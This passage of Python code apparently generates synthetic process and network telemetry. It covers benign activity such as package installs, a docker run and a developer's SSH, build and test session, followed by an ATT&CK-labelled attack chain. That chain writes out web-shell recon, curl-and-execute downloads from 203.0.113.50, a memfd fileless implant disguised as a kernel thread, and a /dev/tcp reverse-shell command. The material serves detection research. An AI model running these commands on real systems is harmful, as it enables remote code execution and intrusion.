    r += w.ms(1, 4)
    w.create(dsh, r, "/etc/systemd/system/multi-user.target.wants/prometheus-node-exporter.service")
    r += w.ms(1, 4)
    w.create(dsh, r, "/var/lib/systemd/deb-systemd-helper-enabled/prometheus-node-exporter.service.dsh-also")
    r += w.ms(2, 6)
    w.exit(dsh, r, 0)
    z = r + w.ms(3, 8)
    z = w.run(pi, z, ["systemctl", "--system", "daemon-reload"], dur=(150, 400)) + w.ms(3, 8)
    inv = w.spawn(pi, z, ["/usr/bin/perl", "/usr/bin/deb-systemd-invoke", "start", "prometheus-node-exporter.service"],
                  path="/usr/bin/deb-systemd-invoke")
    r = inv.t + w.ms(30, 70)

    def start_unit(c, s):
        ne = systemd_unit(w, s + w.ms(5, 15), ["/usr/bin/prometheus-node-exporter"], uid=109, gid=115)
        w.R["node_exporter"] = ne
        ne.shared = True
        u = ne.t + w.ms(40, 120)
        w.bind(ne, u, "::", 9100)
        return u + w.ms(5, 20)
    r = w.run(inv, r, ["systemctl", "--quiet", "--system", "start", "prometheus-node-exporter.service"],
              body=start_unit, dur=(5, 20)) + w.ms(2, 6)
    w.exit(inv, r, 0)
    w.exit(pi, r + w.ms(2, 6), 0)
    y = r + w.ms(10, 30)
    # triggers: man-db (drops to the man user), libc-bin (ldconfig)
    md = w.spawn(dp, y, ["/usr/bin/mandb", "--quiet"])
    u = md.t + w.ms(1, 3)
    w.setgid(md, u, 12)
    w.setuid(md, u + w.ms(0.02, 0.1), 6)
    u += w.ms(300, 900)
    w.create(md, u, "/var/cache/man/3718")
    u += w.ms(10, 50)
    w.rename(md, u, "/var/cache/man/3718", "/var/cache/man/index.db")
    u += w.ms(2, 8)
    w.exit(md, u, 0)
    y = u + w.ms(5, 15)

    def ldconfig(c, s):
        w.create(c, s + w.ms(5, 20), "/etc/ld.so.cache~")
        s += w.ms(25, 40)
        w.rename(c, s, "/etc/ld.so.cache~", "/etc/ld.so.cache")
        return s + w.ms(1, 2)
    y = w.run(dp, y, ["ldconfig"], body=ldconfig, dur=(1, 4)) + w.ms(5, 20)
    w.create(dp, y, "/var/lib/dpkg/status-new")
    y += w.ms(1, 4)
    w.rename(dp, y, "/var/lib/dpkg/status-new", "/var/lib/dpkg/status")
    y += w.ms(2, 6)
    w.exit(dp, y, 0)
    return y + w.ms(50, 200)


def docker_pull(w: World, x: int) -> int:
    d = w.R["dockerd"]
    for host in ("registry-1.docker.io", "auth.docker.io", "registry-1.docker.io", "production.cloudflare.docker.com"):
        x = w.dns(d, x, host)
        w.connect(d, x, DNS[host], 443)
        x += w.ms(80, 400)
    for i in range(3):
        n = w.rng.randint(1000000000, 4000000000)
        w.create(d, x, f"/var/lib/docker/tmp/GetImageBlob{n}")
        x += w.ms(200, 1500)
        w.unlink(d, x, f"/var/lib/docker/tmp/GetImageBlob{n}")
        x += w.ms(10, 80)
    for f in ("/var/lib/docker/image/overlay2/repositories.json.tmp",):
        w.create(d, x, f)
        x += w.ms(1, 3)
        w.rename(d, x, f, "/var/lib/docker/image/overlay2/repositories.json")
    return x + w.ms(20, 80)


def docker_run(w: World, x: int) -> int:
    """dockerd -> containerd -> containerd-shim-runc-v2 -> runc create/init -> container process."""
    cid = hashlib.sha256(b"nginx -v container").hexdigest()
    bundle = "/run/containerd/io.containerd.runtime.v2.task/moby/" + cid
    ctd = w.R["containerd"]
    x += w.ms(30, 90)
    s0 = w.spawn(ctd, x, ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", cid, "-address",
                          "/run/containerd/containerd.sock", "start"], cwd=bundle)
    y = s0.t + w.ms(3, 10)
    shim = w.fork(s0, y)
    shim.subreaper = True
    y += w.ms(1, 3)
    w.exec(shim, y, ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", cid, "-address",
                     "/run/containerd/containerd.sock"])
    y = shim.t + w.ms(1, 4)
    w.exit(s0, y, 0)
    y += w.ms(5, 15)
    rc = w.spawn(shim, y, ["runc", "--root", "/var/run/docker/runtime-runc/moby", "--log", bundle + "/log.json",
                           "--log-format", "json", "create", "--bundle", bundle, "--pid-file", bundle + "/init.pid",
                           cid], cwd=bundle)
    ini = w.fork(rc, rc.t + w.ms(5, 15))
    w.exec(ini, ini.t + w.ms(0.2, 1), ["runc", "init"], path="/proc/self/exe", exe="/usr/bin/runc",
           name="runc:[2:INIT]")
    y = ini.t + w.ms(20, 60)
    w.exit(rc, y, 0)
    y += w.ms(5, 15)
    y = w.run(shim, y, ["runc", "--root", "/var/run/docker/runtime-runc/moby", "--log", bundle + "/log.json",
                        "--log-format", "json", "start", cid], dur=(3, 10), cwd=bundle)
    w.exec(ini, y + w.ms(0.1, 0.5), ["nginx", "-v"], path="/usr/sbin/nginx", cwd="/", container=cid)
    y = ini.t + w.ms(1, 4)
    w.exit(ini, y, 0)
    y += w.ms(10, 40)
    y = w.run(shim, y, ["runc", "--root", "/var/run/docker/runtime-runc/moby", "--log", bundle + "/log.json",
                        "--log-format", "json", "delete", cid], dur=(5, 20), cwd=bundle)
    w.exit(shim, y + w.ms(5, 20), 0)
    return y + w.ms(30, 80)


# --------------------------------------------------------------------------------------------
# Developer (maria) — logs in over SSH at 09:04, edits/builds/tests a C service
# --------------------------------------------------------------------------------------------
def ssh_login(w: World, t: int, client: str, uid: int, user: str, tty: str):
    sshd = w.R["sshd"]
    home = f"/home/{user}"
    cport = w.rng.randint(49152, 65000)
    w.accept(sshd, t, client, cport, 22)
    priv = w.spawn(sshd, t + w.ms(0.3, 1), ["/usr/sbin/sshd", "-D", "-R"])
    x = priv.t + w.ms(40, 120)
    w.open(priv, x, f"{home}/.ssh/authorized_keys")
    x += w.ms(30, 80)
    w.open(priv, x, "/etc/shadow")  # pam_unix account
    x += w.ms(3, 9)
    # pam_motd
    m = w.spawn(priv, x, ["/bin/sh", "-c", "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:"
                                           "/sbin:/bin run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new"],
                path="/bin/sh")
    w.create(m, m.t + w.ms(0.2, 0.5), "/run/motd.dynamic.new")
    w.exec(m, m.t + w.ms(0.2, 0.6), ["/usr/bin/env", "-i", "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                                     "run-parts", "--lsbsysinit", "/etc/update-motd.d"])
    w.exec(m, m.t + w.ms(0.2, 0.6), ["run-parts", "--lsbsysinit", "/etc/update-motd.d"])
    u = w.spawn(m, m.t + w.ms(0.5, 2), ["/etc/update-motd.d/10-uname"])
    y = w.run(u, u.t + w.ms(0.5, 1.5), ["uname", "-snrvm"], dur=(0.3, 1))
    w.exit(u, y + w.ms(0.3, 1), 0)
    w.exit(m, y + w.ms(1, 3), 0)
    x = y + w.ms(3, 6)
    w.rename(priv, x, "/run/motd.dynamic.new", "/run/motd.dynamic")
    x += w.ms(2, 6)
    sess = w.fork(priv, x)
    x += w.ms(0.3, 1)
    w.setgid(sess, x, uid)
    w.setuid(sess, x + w.ms(0.02, 0.1), uid)
    x += w.ms(2, 5)
    sh = w.fork(sess, x)
    w.exec(sh, x + w.ms(0.2, 0.6), ["-bash"], path="/bin/bash", cwd=home)
    x = sh.t + w.ms(2, 5)
    for f in (f"{home}/.profile", f"{home}/.bashrc", f"{home}/.bash_history"):
        w.open(sh, x, f)
        x += w.ms(0.3, 2)
    return sh, sess, priv, x


CFLAGS = ["-O2", "-g", "-Wall", "-Wextra", "-Iinclude"]
SRCS = ["main", "http", "db", "config", "json"]
HDRS = {"main": ["stdio.h", "stdlib.h", "signal.h"], "http": ["stdio.h", "string.h", "sys/socket.h"],
        "db": ["stdlib.h", "postgresql/libpq-fe.h"], "config": ["stdio.h", "stdlib.h", "string.h"],
        "json": ["stdlib.h", "string.h", "ctype.h"]}
CC1 = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1"
COLLECT2 = "/usr/lib/gcc/x86_64-linux-gnu/12/collect2"


class Dev:
    def __init__(self, w: World):
        self.w = w
        self.proj = "/home/maria/src/inventory-svc"
        self.home = "/home/maria"
        self.built: set[str] = set()
        self.bin_built = False
        self.dirty: set[str] = set(SRCS)  # pulled changes touch everything

    def compile(self, make: Proc, t: int, src: str) -> int:
        w, P = self.w, self.proj
        obj = f"build/{src}.o"
        cc = w.spawn(make, t, ["cc", *CFLAGS, "-c", "-o", obj, f"src/{src}.c"])
        x = cc.t + w.ms(1, 4)
        tmp = f"/tmp/cc{w.tmpname()}.s"
        c1 = w.spawn(cc, x, [CC1, "-quiet", "-I", "include", "-imultiarch", "x86_64-linux-gnu", f"src/{src}.c",
                             "-quiet", "-dumpdir", "build/", "-dumpbase", f"{src}.c", "-dumpbase-ext", ".c",
                             "-mtune=generic", "-march=x86-64", "-g", "-O2", "-Wall", "-Wextra",
                             "-fasynchronous-unwind-tables", "-o", tmp])
        y = c1.t + w.ms(0.5, 2)
        w.open(c1, y, f"{P}/src/{src}.c")
        y += w.ms(0.5, 2)
        w.create(c1, y, tmp)
        for h in HDRS[src]:
            y += w.ms(0.3, 3)
            w.open(c1, y, f"/usr/include/{h}")
        y += w.ms(0.3, 2)
        w.open(c1, y, f"{P}/include/{src}.h")
        y += w.ms(90, 700)
        w.exit(c1, y, 0)
        y += w.ms(0.5, 2)
        a = w.spawn(cc, y, ["as", "-I", "include", "--gdwarf-5", "--64", "-o", obj, tmp], path="/usr/bin/as")
        z = a.t + w.ms(0.5, 2)
        w.open(a, z, tmp)
        z += w.ms(0.5, 2)
        (w.write if src in self.built else w.create)(a, z, f"{P}/{obj}")
        self.built.add(src)
        z += w.ms(8, 40)
        w.exit(a, z, 0)
        z += w.ms(0.3, 1)
        w.unlink(cc, z, tmp)
        z += w.ms(0.3, 1)
        w.exit(cc, z, 0)
        return z

    def link(self, make: Proc, t: int) -> int:
        w, P = self.w, self.proj
        objs = [f"build/{s}.o" for s in SRCS]
        cc = w.spawn(make, t, ["cc", "-o", "build/inventory-svc", *objs, "-lpq"])
        x = cc.t + w.ms(1, 4)
        largs = ["--build-id", "--eh-frame-hdr", "-m", "elf_x86_64", "-dynamic-linker", "/lib64/ld-linux-x86-64.so.2",
                 "-pie", "-o", "build/inventory-svc", "/usr/lib/x86_64-linux-gnu/Scrt1.o",
                 "/usr/lib/x86_64-linux-gnu/crti.o", "/usr/lib/gcc/x86_64-linux-gnu/12/crtbeginS.o", *objs, "-lpq",
                 "-lgcc", "-lc", "/usr/lib/gcc/x86_64-linux-gnu/12/crtendS.o",
                 "/usr/lib/x86_64-linux-gnu/crtn.o"]
        c2 = w.spawn(cc, x, [COLLECT2, *largs])
        y = c2.t + w.ms(1, 3)
        ld = w.spawn(c2, y, ["/usr/bin/ld", *largs])
        z = ld.t + w.ms(1, 4)
        for o in objs:
            w.open(ld, z, f"{P}/{o}")
            z += w.ms(0.2, 1.5)
        w.open(ld, z, "/usr/lib/x86_64-linux-gnu/libpq.so")
        z += w.ms(20, 120)
        out = f"{P}/build/inventory-svc"
        if self.bin_built:
            w.unlink(ld, z, out)
            z += w.ms(0.1, 0.3)
        w.create(ld, z, out)
        z += w.ms(10, 60)
        w.chmod(ld, z, out, "0755")
        self.bin_built = True
        z += w.ms(1, 4)
        w.exit(ld, z, 0)
        z += w.ms(0.5, 2)
        w.exit(c2, z, 0)
        z += w.ms(0.5, 2)
        w.exit(cc, z, 0)
        return z

    def make(self, sh: Proc, t: int) -> int:
        w, P = self.w, self.proj
        mk = w.spawn(sh, t, ["make"])
        x = mk.t + w.ms(1, 3)
        w.open(mk, x, f"{P}/Makefile")
        x += w.ms(2, 8)
        todo = [s for s in SRCS if s in self.dirty]
        for s in todo:
            x = self.compile(mk, x, s) + w.ms(0.5, 3)
        if todo or not self.bin_built:
            x = self.link(mk, x) + w.ms(0.5, 2)
        self.dirty.clear()
        w.exit(mk, x, 0)
        return x

    def make_test(self, sh: Proc, t: int) -> int:
        """make test: the self-test binary, then pytest in the venv against a live instance."""
        w, P = self.w, self.proj
        mk = w.spawn(sh, t, ["make", "test"])
        x = mk.t + w.ms(1, 3)
        w.open(mk, x, f"{P}/Makefile")
        x += w.ms(2, 6)
        x = w.run(mk, x, ["./build/inventory-svc", "--selftest"], dur=(30, 200)) + w.ms(1, 4)
        sh2 = w.spawn(mk, x, ["/bin/sh", "-c", ".venv/bin/python -m pytest -q tests/"])
        w.exec(sh2, sh2.t + w.ms(0.3, 1), [".venv/bin/python", "-m", "pytest", "-q", "tests/"],
               exe="/usr/bin/python3.11")
        py = sh2
        y = py.t + w.ms(80, 250)
        for f in ("pytest.ini", "tests/conftest.py", "tests/test_api.py", "tests/test_config.py"):
            w.open(py, y, f"{P}/{f}")
            y += w.ms(2, 20)
        if w.rng.random() < 0.5:
            w.create(py, y, f"{P}/tests/__pycache__/test_api.cpython-311-pytest-7.2.1.pyc")
            y += w.ms(1, 5)
        svc = w.spawn(py, y, ["build/inventory-svc", "--listen", "127.0.0.1:18080", "--db",
                              "postgresql://inventory@db.internal/inventory_test"])
        z = svc.t + w.ms(2, 8)
        w.open(svc, z, f"{P}/config/test.toml")
        z += w.ms(1, 3)
        w.bind(svc, z, "127.0.0.1", 18080)
        z = w.dns(svc, z + w.ms(1, 3), "db.internal")
        w.connect(svc, z, DB_IP, 5432)
        z += w.ms(50, 150)
        for _ in range(w.rng.randint(2, 4)):
            sp = w.eport()
            w.connect(py, z, "127.0.0.1", 18080, sport=sp)
            w.accept(svc, z + w.ms(0.05, 0.2), "127.0.0.1", sp, 18080)
            z += w.ms(30, 400)
        w.exit(svc, z, 0)
        z += w.ms(5, 30)
        w.create(py, z, f"{P}/.pytest_cache/v/cache/lastfailed")
        z += w.ms(2, 10)
        w.exit(py, z, 0)
        z += w.ms(1, 3)
        w.exit(mk, z, 0)
        return z


def git(w: World, sh: Proc, t: int, args: list, body=None, dur=(3, 40), code=0) -> int:
    return w.run(sh, t, ["git", *args], body=body, dur=dur, code=code)


def developer(w: World):
    rng = w.rng
    d = Dev(w)
    P, H = d.proj, d.home
    sh, sess, priv, t = ssh_login(w, at(9, 4, 12.3), "192.0.2.34", 1001, "maria", "pts/1")
    t += think(w, 3, 8)
    w.chdir(sh, P)
    t = git(w, sh, t, ["status"], body=lambda c, x: w.open(c, x, f"{P}/.git/index")) + think(w, 3, 10)

    def pull(c, x):
        f = w.spawn(c, x, ["git", "fetch", "--update-head-ok"])
        y = f.t + w.ms(2, 6)
        rh = w.spawn(f, y, ["git-remote-https", "origin", "https://git.example.com/platform/inventory-svc.git"],
                     path="/usr/lib/git-core/git-remote-https")
        z = w.https(rh, rh.t + w.ms(2, 6), "git.example.com")
        z += w.ms(300, 900)
        w.exit(rh, z, 0)
        z += w.ms(2, 8)
        w.write(f, z, f"{P}/.git/FETCH_HEAD")
        z += w.ms(1, 5)
        w.exit(f, z, 0)
        z += w.ms(3, 10)
        w.write(c, z, f"{P}/.git/ORIG_HEAD")
        for s in ("src/http.c", "src/db.c", "include/db.h", "tests/test_api.py"):
            z += w.ms(0.5, 3)
            w.write(c, z, f"{P}/{s}")
        z += w.ms(1, 4)
        w.create(c, z, f"{P}/.git/index.lock")
        z += w.ms(1, 3)
        w.rename(c, z, f"{P}/.git/index.lock", f"{P}/.git/index")
        return z
    t = git(w, sh, t, ["pull", "--ff-only"], body=pull) + think(w, 5, 15)

    # one-off: refresh the dev venv (pip over HTTPS)
    def pip(c, x):
        w.open(c, x, f"{P}/requirements-dev.txt")
        x = w.https(c, x + w.ms(50, 150), "pypi.org")
        x += w.ms(400, 1200)
        x = w.https(c, x, "files.pythonhosted.org")
        x += w.ms(800, 2500)
        for f in ("httpx-0.25.2.dist-info/METADATA", "httpx/__init__.py", "httpx/_client.py"):
            w.create(c, x, f"{P}/.venv/lib/python3.11/site-packages/{f}")
            x += w.ms(1, 10)
        return x
    t = w.run(sh, t, [".venv/bin/pip", "install", "-q", "-r", "requirements-dev.txt"], body=pip, dur=(200, 800))
    t += think(w, 4, 12)
    t = d.make(sh, t) + think(w, 4, 15)
    t = d.make_test(sh, t) + think(w, 5, 20)

    def ls(x): return w.run(sh, x, rng.choice([["ls"], ["ls", "-la"], ["ls", "-l", "src/"], ["ls", "build/"]]),
                            dur=(1, 4))

    def grep(x):
        pat = rng.choice(["TODO", "keepalive", "PQexec", "timeout_ms", "parse_header"])
        return w.run(sh, x, ["grep", "-rn", pat, "src/", "include/"],
                     body=lambda c, y: max(w.open(c, y + i * 300, f"{P}/src/{s}.c") for i, s in enumerate(SRCS)) + 1000,
                     dur=(2, 10), code=rng.choice([0, 0, 1]))

    def cat(x):
        f = rng.choice(["README.md", "Makefile", "config/dev.toml", "src/http.c"])
        return w.run(sh, x, ["cat", f], body=lambda c, y: w.open(c, y, f"{P}/{f}"), dur=(0.5, 2))

    def find(x):
        return w.run(sh, x, ["find", ".", "-name", "*.o", "-newer", "Makefile"], dur=(5, 40))

    def psgrep(x):
        g = w.spawn(sh, x + w.ms(0.1, 0.4), ["grep", "inventory"])
        e = w.run(sh, x, ["ps", "aux"], dur=(15, 40))
        w.exit(g, e + w.ms(0.5, 1), 0)
        return e + w.ms(1, 2)

    def top(x):
        return w.run(sh, x, ["top"], dur=(15000, 60000))

    def gstatus(x):
        return git(w, sh, x, ["status", "-s"], body=lambda c, y: w.open(c, y, f"{P}/.git/index"))

    def gdiff(x):
        def body(c, y):
            w.open(c, y, f"{P}/.git/index")
            pg = w.spawn(c, y + w.ms(2, 6), ["less"], path="/usr/bin/less")
            z = pg.t + w.sec(4, 40)
            w.exit(pg, z, 0)
            return z
        return git(w, sh, x, ["diff"], body=body)

    def commit(x, msg):
        def add(c, y):
            w.create(c, y, f"{P}/.git/index.lock")
            w.rename(c, y + w.ms(1, 4), f"{P}/.git/index.lock", f"{P}/.git/index")
            return y + w.ms(5, 6)
        x = git(w, sh, x, ["add", "-u"], body=add) + think(w, 2, 6)

        def cm(c, y):
            for _ in range(2):
                o = hashlib.sha1(f"{y}{rng.random()}".encode()).hexdigest()
                tmp = f"{P}/.git/objects/{o[:2]}/tmp_obj_{w.tmpname()}"
                w.create(c, y, tmp)
                y += w.ms(0.2, 1)
                w.rename(c, y, tmp, f"{P}/.git/objects/{o[:2]}/{o[2:]}")
                y += w.ms(0.2, 1)
            w.create(c, y, f"{P}/.git/COMMIT_EDITMSG")
            y += w.ms(0.5, 2)
            w.create(c, y, f"{P}/.git/refs/heads/main.lock")
            y += w.ms(0.2, 1)
            w.rename(c, y, f"{P}/.git/refs/heads/main.lock", f"{P}/.git/refs/heads/main")
            return y + w.ms(1, 3)
        return git(w, sh, x, ["commit", "-m", msg], body=cm)

    def curl_api(x):
        # curl -s --netrc-file ~/.config/inventory/netrc https://api.example.net/v2/items?limit=5 | jq .
        jq = w.spawn(sh, x + w.ms(0.1, 0.4), ["jq", "."])
        netrc = f"{H}/.config/inventory/netrc"
        e = w.run(sh, x, ["curl", "-s", "--netrc-file", netrc, "https://api.example.net/v2/items?limit=5"],
                  body=lambda c, y: w.https(c, w.open(c, y, netrc) + w.ms(0.3, 1), "api.example.net") + w.ms(150, 600),
                  dur=(2, 10))
        w.exit(jq, e + w.ms(1, 3), 0)
        return e + w.ms(2, 3)

    def json_tool(x):
        py = w.spawn(sh, x + w.ms(0.1, 0.4), ["python3", "-m", "json.tool"])
        e = w.run(sh, x, ["curl", "-s", "https://api.example.net/v2/health"],
                  body=lambda c, y: w.https(c, y, "api.example.net") + w.ms(100, 400), dur=(2, 10))
        w.exit(py, e + w.ms(20, 60), 0)
        return e + w.ms(60, 70)

    def seed(x):
        def body(c, y):
            w.open(c, y + w.ms(30, 80), f"{P}/scripts/seed_fixtures.py")
            y = w.dns(c, y + w.ms(100, 200), "db.internal")
            w.connect(c, y, DB_IP, 5432)
            return y + w.ms(800, 3000)
        return w.run(sh, x, ["python3", "scripts/seed_fixtures.py", "--db",
                             "postgresql://inventory@db.internal/inventory_dev"], body=body, dur=(20, 80))

    def edit_build(x, files, test=True):
        for f in files:
            x = vim_edit(w, sh, x, f"src/{f}.c", H, secs=(50, 420)) + think(w, 2, 6)
            d.dirty.add(f)
        x = d.make(sh, x) + think(w, 3, 10)
        if test:
            x = d.make_test(sh, x) + think(w, 4, 15)
        return x

    fillers = [ls, grep, cat, find, psgrep, gstatus, gdiff]
    commits = iter(["http: close idle keep-alive connections after timeout_ms",
                    "db: retry PQexec once on connection reset",
                    "config: accept listen address from INV_LISTEN",
                    "json: escape control characters in error bodies"])
    # (what, argument, not before hh:mm): spread over the morning, interleaved with everything else
    plan = [
        ("edit", ["http"], (9, 5)), ("fill", 2, None), ("curl", None, (9, 15)), ("edit", ["http"], (9, 18)),
        ("diff", None, None), ("commit", None, None), ("edit", ["db"], (9, 31)), ("fill", 1, None),
        ("json", None, (9, 40)), ("edit", ["db", "config"], (9, 43)), ("fill", 1, None), ("keygen", None, (9, 55)),
        ("commit", None, None), ("top", None, (9, 59)), ("sudo_fail", None, (10, 3)), ("fill", 1, None),
        ("strace", None, (10, 12)), ("edit", ["json"], (10, 16)), ("seed", None, (10, 24)), ("diff", None, None),
        ("commit", None, None), ("push", None, (10, 31)), ("fill", 2, (10, 36)), ("curl", None, (10, 42)),
        ("fill", 2, (10, 45)),
    ]
    for kind, arg, not_before in plan:
        if not_before:
            t = max(t, at(*not_before, rng.uniform(0, 50)))
        if kind == "edit":
            t = edit_build(t, arg, test=rng.random() < 0.75)
        elif kind == "fill":
            for _ in range(arg):
                t = rng.choice(fillers)(t) + think(w, 2, 12)
        elif kind == "curl":
            t = curl_api(t) + think(w, 3, 10)
        elif kind == "json":
            t = json_tool(t) + think(w, 3, 10)
        elif kind == "diff":
            t = gdiff(t) + think(w, 3, 10)
        elif kind == "commit":
            t = commit(t, next(commits)) + think(w, 3, 10)
        elif kind == "top":
            t = top(t) + think(w, 3, 10)
        elif kind == "seed":
            t = seed(t) + think(w, 3, 10)
        elif kind == "keygen":
            def kg(c, y):
                w.create(c, y + w.ms(5, 15), f"{H}/.ssh/id_ed25519_ci")
                y += w.ms(16, 20)
                w.chmod(c, y, f"{H}/.ssh/id_ed25519_ci", "0600")
                y += w.ms(0.5, 1)
                w.create(c, y, f"{H}/.ssh/id_ed25519_ci.pub")
                return y + w.ms(1, 3)
            t = w.run(sh, t, ["ssh-keygen", "-t", "ed25519", "-C", "maria@web-01 ci-deploy", "-f",
                              f"{H}/.ssh/id_ed25519_ci", "-N", ""], body=kg, dur=(2, 6)) + think(w, 2, 6)
            t = w.run(sh, t, ["cat", f"{H}/.ssh/id_ed25519_ci.pub"],
                      body=lambda c, y: w.open(c, y, f"{H}/.ssh/id_ed25519_ci.pub"), dur=(0.5, 2)) + think(w, 10, 40)
        elif kind == "sudo_fail":
            # maria checks her groups, fumbles her sudo password on two separate tries, then gets it right
            t = w.run(sh, t, ["id"], dur=(0.5, 2)) + think(w, 4, 10)
            cmd = ["tail", "-n", "200", "/var/log/nginx/error.log"]
            t = sudo(w, sh, t, cmd, fails=1, ctrl_c=True) + think(w, 25, 45)
            t = sudo(w, sh, t, cmd, fails=3) + think(w, 15, 30)
            t = sudo(w, sh, t, cmd, body=lambda c, y: w.open(c, y, "/var/log/nginx/error.log") + w.ms(1, 3),
                     dur=(1, 3)) + think(w, 10, 30)
        elif kind == "strace":
            def st(c, y):
                w.create(c, y, "/tmp/strace-svc.txt")
                ch = w.fork(c, y + w.ms(0.5, 1.5))
                w.ptrace(c, ch.t + w.ms(0.05, 0.2), ch)
                w.exec(ch, ch.t + w.ms(0.3, 0.8), ["./build/inventory-svc", "--selftest"])
                z = ch.t + w.ms(300, 1500)
                w.exit(ch, z, 0)
                return z + w.ms(2, 5)
            t = w.run(sh, t, ["strace", "-f", "-o", "/tmp/strace-svc.txt", "./build/inventory-svc", "--selftest"],
                      body=st, dur=(2, 6)) + think(w, 5, 15)
            t = w.run(sh, t, ["grep", "-c", "ENOENT", "/tmp/strace-svc.txt"],
                      body=lambda c, y: w.open(c, y, "/tmp/strace-svc.txt"), dur=(1, 4)) + think(w, 5, 15)
        elif kind == "push":
            def push(c, y):
                po = w.spawn(c, y, ["ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@git.example.com",
                                    "git-receive-pack 'platform/inventory-svc.git'"])
                z = po.t + w.ms(1, 3)
                w.open(po, z, f"{H}/.ssh/config")
                z = w.dns(po, z + w.ms(0.5, 2), "git.example.com")
                w.connect(po, z, DNS["git.example.com"], 22)
                z += w.ms(40, 120)
                w.open(po, z, f"{H}/.ssh/known_hosts")
                z += w.ms(5, 20)
                w.open(po, z, f"{H}/.ssh/id_ed25519")
                z += w.ms(200, 500)
                pk = w.spawn(c, z, ["git", "pack-objects", "--all-progress-implied", "--revs", "--stdout", "--thin",
                                    "--delta-base-offset", "-q"])
                z = pk.t + w.ms(20, 80)
                w.exit(pk, z, 0)
                z += w.ms(300, 900)
                w.exit(po, z, 0)
                z += w.ms(2, 6)
                w.write(c, z, f"{P}/.git/refs/remotes/origin/main")
                return z
            t = git(w, sh, t, ["push", "origin", "main"], body=push) + think(w, 5, 15)
    # wrap up and log out before 10:55
    t = gstatus(t) + think(w, 5, 15)
    assert t < at(10, 56), ts(t)
    t = max(t, at(10, 52, 40.0))
    w.exit(sh, t, 0)
    w.exit(sess, t + w.ms(2, 8), 0)
    w.exit(priv, t + w.ms(10, 30), 0)


# --------------------------------------------------------------------------------------------
# The attack chain
# --------------------------------------------------------------------------------------------
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq8vV3mM0pGfZ2xT1bY9cN4kLr7eWqA5sD6uJ0hB2cX svc-backup@build-07"


def attack(w: World):
    rng = w.rng
    fpm = w.R["fpm1"]  # php-fpm pool worker pid 1042
    A = ATTACKER

    def ng(t):
        return rng.choice(nginx_workers_at(w, t))

    # ---- 0. scanning and exploitation of the PHP app ----------------------------------------
    with w.attack("T1595.002", "0 Scan + exploit"):
        t = at(9, 38, 12.6)
        for _ in range(3):
            w.accept(ng(t), t, A, rng.randint(40000, 60000), 443)
            t += w.sec(3, 9)
    with w.attack("T1190", "0 Scan + exploit", "exploit request to the PHP app (RCE)"):
        t = at(9, 41, 3.218)
        w.accept(ng(t), t, A, 51802, 443)

    # ---- 1. recon through the web shell -----------------------------------------------------
    with w.attack("T1059.004", "1 Recon"):
        t += w.ms(38, 60)
        s1 = w.spawn(fpm, t, ["sh", "-c", "id; uname -a; cat /etc/os-release"], path="/bin/sh")
    with w.attack("T1033", "1 Recon"):
        x = w.run(s1, s1.t + w.ms(0.3, 1), ["id"], dur=(0.5, 1.5))
    with w.attack("T1082", "1 Recon"):
        x = w.run(s1, x + w.ms(0.2, 0.6), ["uname", "-a"], dur=(0.3, 1))
        w.exec(s1, x + w.ms(0.2, 0.6), ["cat", "/etc/os-release"])  # dash execs the last command
        w.open(s1, s1.t + w.ms(0.2, 0.6), "/etc/os-release")
        w.exit(s1, s1.t + w.ms(0.5, 1.2), 0)

    # ---- 2. download & execute stage 1, which drops a binary in /dev/shm -------------------
    t = at(9, 41, 41.077)
    with w.attack("T1190", "2 Download + execute"):
        w.accept(ng(t), t, A, 51866, 443)
    with w.attack("T1059.004", "2 Download + execute"):
        s2 = w.spawn(fpm, t + w.ms(30, 50), ["sh", "-c", "curl -fsSL http://203.0.113.50:8080/x.sh -o /tmp/.x.sh; "
                                                         "chmod +x /tmp/.x.sh; /tmp/.x.sh"], path="/bin/sh")
    with w.attack("T1105", "2 Download + execute"):
        c = w.spawn(s2, s2.t + w.ms(0.3, 1), ["curl", "-fsSL", "http://203.0.113.50:8080/x.sh", "-o", "/tmp/.x.sh"])
        x = c.t + w.ms(2, 5)
        w.connect(c, x, A, 8080)
        x += w.ms(140, 220)
        w.create(c, x, "/tmp/.x.sh")
        x += w.ms(1, 3)
        w.exit(c, x, 0)
    with w.attack("T1222.002", "2 Download + execute"):
        x = w.run(s2, x + w.ms(0.3, 1), ["chmod", "+x", "/tmp/.x.sh"],
                  body=lambda p, y: w.chmod(p, y, "/tmp/.x.sh", "0755"), dur=(0.3, 1))
    with w.attack("T1204.002", "2 Download + execute", "stage-1 script exec'd in place of the sh (dash execs the last command)"):
        w.exec(s2, x + w.ms(0.2, 0.6), ["/tmp/.x.sh"])
        xs = s2
        x = xs.t + w.ms(1, 3)
    with w.attack("T1105", "2 Download + execute"):
        c = w.spawn(xs, x, ["curl", "-fsSL", "http://203.0.113.50:8080/k", "-o", "/dev/shm/.k"])
        y = c.t + w.ms(2, 5)
        w.connect(c, y, A, 8080)
        y += w.ms(300, 700)
        w.create(c, y, "/dev/shm/.k")
        y += w.ms(1, 3)
        w.exit(c, y, 0)
    with w.attack("T1222.002", "2 Download + execute"):
        y = w.run(xs, y + w.ms(0.3, 1), ["chmod", "+x", "/dev/shm/.k"],
                  body=lambda p, z: w.chmod(p, z, "/dev/shm/.k", "0755"), dur=(0.3, 1))
    # nohup /dev/shm/.k >/dev/null 2>&1 &
    with w.attack("T1204.002", "2 Download + execute", "second stage executed from /dev/shm"):
        k = w.spawn(xs, y + w.ms(0.3, 1), ["nohup", "/dev/shm/.k"])
        w.exec(k, k.t + w.ms(0.3, 0.8), ["/dev/shm/.k"])
    with w.attack("T1620", "3 Fileless implant", "payload copied into an anonymous memfd"):
        w.memfd(k, k.t + w.ms(1, 3), "kworker")
    with w.attack("T1620", "3 Fileless implant", "fexecve of the memfd; argv[0] masquerades as a kernel thread"):
        w.exec(k, k.t + w.ms(2, 6), ["[kworker/u8:2]"], path="/proc/self/fd/3", exe="/memfd:kworker (deleted)")
    with w.attack("T1059.004", "4 Reverse shells"):
        # nohup bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1' >/dev/null 2>&1 &
